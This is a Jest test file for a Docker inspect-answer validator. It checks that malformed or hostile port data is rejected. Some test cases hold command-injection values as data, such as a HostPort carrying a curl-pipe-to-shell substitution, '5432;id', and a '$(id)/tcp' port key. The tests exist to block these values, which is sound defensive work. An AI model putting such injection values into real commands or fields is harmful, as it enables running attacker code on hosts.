// A container inspect answer comes from the VM's docker, which the job controls: only the shape the
// hook reads is accepted; anything else is an UnexpectedAnswer (a one-line error), never a TypeError.
import { inspectShape, portMap } from '../../src/docker/steps'
import { UnexpectedAnswer } from '../../src/remote/answer'

const good = () => ({
  Id: 'a'.repeat(64),
  Config: { Env: ['PATH=/usr/bin'], Image: 'alpine' },
  State: { Running: true, Status: 'running', ExitCode: 0, Health: { Status: 'healthy' } },
  NetworkSettings: { Ports: { '80/tcp': [{ HostIp: '0.0.0.0', HostPort: '32768' }], '81/tcp': null } }
})

test('a real-shaped answer passes and its ports are read (positive control)', () => {
  expect(portMap(inspectShape(good()))).toEqual({ '80': '32768' })
  expect(inspectShape({ ...good(), Config: { Env: null, Image: 'x' }, NetworkSettings: { Ports: null } }).Config.Env).toBeNull()
  expect(inspectShape({ ...good(), Config: { ...good().Config, Labels: { a: 'b' } } }).Config.Labels).toEqual({ a: 'b' })
  expect(inspectShape({ ...good(), Config: { ...good().Config, Labels: null } }).Config.Labels).toBeNull()
})

const broken: [string, (g: any) => unknown][] = [
  ['not an object', () => 'hello'],
  ['an array', () => []],
  ['no State', (g) => ({ ...g, State: undefined })],
  ['State.Running not a boolean', (g) => ({ ...g, State: { ...g.State, Running: 'yes' } })],
  ['State.ExitCode not a number', (g) => ({ ...g, State: { ...g.State, ExitCode: '0' } })],
  ['State.Health a string', (g) => ({ ...g, State: { ...g.State, Health: 'healthy' } })],
  ['no Config', (g) => ({ ...g, Config: null })],
  ['Config.Env with a number', (g) => ({ ...g, Config: { Env: [1] } })],
  ['Config.Labels with a number', (g) => ({ ...g, Config: { ...g.Config, Labels: { 'dev.remote-container-hooks.job': 1 } } })],
  ['Config.Labels a list', (g) => ({ ...g, Config: { ...g.Config, Labels: ['a=b'] } })],
  ['no NetworkSettings', (g) => ({ ...g, NetworkSettings: undefined })],
  ['Ports a list', (g) => ({ ...g, NetworkSettings: { Ports: [] } })],
  ['a port binding not a list', (g) => ({ ...g, NetworkSettings: { Ports: { '80/tcp': 'x' } } })],
  ['a HostPort number', (g) => ({ ...g, NetworkSettings: { Ports: { '80/tcp': [{ HostPort: 8080 }] } } })],
  // Ports reach job.services.<id>.ports, which a services-only job's steps put in commands on the runner host.
  ...(['3306$(curl -s x|sh)', '5432;id', '5432\n', ' 5432', '+5432', '05432', '0', '65536', '99999', '1e3', '5432.0'].map((p) => [
    `a HostPort ${JSON.stringify(p)}`,
    (g: any) => ({ ...g, NetworkSettings: { Ports: { '80/tcp': [{ HostIp: '0.0.0.0', HostPort: p }] } } })
  ]) as [string, (g: any) => unknown][]),
  ...(['x/tcp', '80', '80/tcp/x', '80/icmp', '$(id)/tcp', '65536/tcp', '0/udp'].map((k) => [
    `a port key ${JSON.stringify(k)}`,
    (g: any) => ({ ...g, NetworkSettings: { Ports: { [k]: [{ HostIp: '0.0.0.0', HostPort: '32768' }] } } })
  ]) as [string, (g: any) => unknown][])
]

test("controls: the ports docker writes pass (every protocol, the range's ends, a binding without a port)", () => {
  const ports = {
    '1/tcp': [{ HostIp: '0.0.0.0', HostPort: '65535' }],
    '65535/udp': [{ HostIp: '::', HostPort: '1' }],
    '9/sctp': [{ HostIp: '', HostPort: '' }],
    '10/tcp': null
  }
  expect(portMap(inspectShape({ ...good(), NetworkSettings: { Ports: ports } }))).toEqual({ '1': '65535', '65535': '1' })
})

test.each(broken)('%s is an UnexpectedAnswer', (_name, make) => {
  expect(() => inspectShape(make(good()))).toThrow(UnexpectedAnswer)
})
